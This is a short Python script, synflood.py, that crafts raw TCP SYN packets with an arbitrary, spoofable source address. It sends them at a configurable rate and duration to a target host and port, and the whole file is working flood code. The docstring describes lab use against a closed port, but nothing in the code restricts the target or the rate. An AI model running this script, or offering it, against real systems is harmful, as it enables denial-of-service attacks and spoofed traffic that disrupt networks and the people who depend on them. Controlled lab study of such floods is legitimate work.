#!/usr/bin/env python3
"""Raw SYNs at a fixed rate to a closed port (run inside a lab namespace): each one draws
one RST from the target's stack. usage: synflood.py SRC DST PORT RATE SECONDS"""
import random
import socket
import struct
import sys
import time


def checksum(b: bytes) -> int:
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def main() -> None:
    src, dst, port, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sb, db = socket.inet_aton(src), socket.inet_aton(dst)
    sent, start = 0, time.monotonic()
    end = start + seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * rate)
        while sent < due:
            sport = 20000 + sent % 40000
            tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
            tcp = tcp[:16] + struct.pack("!H", checksum(sb + db + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, sb, db)
            s.sendto(ip + tcp, (dst, 0))
            sent += 1
        time.sleep(0.0005)
    print(f'{{"sent": {sent}, "seconds": {time.monotonic() - start:.3f}}}', flush=True)


if __name__ == "__main__":
    main()
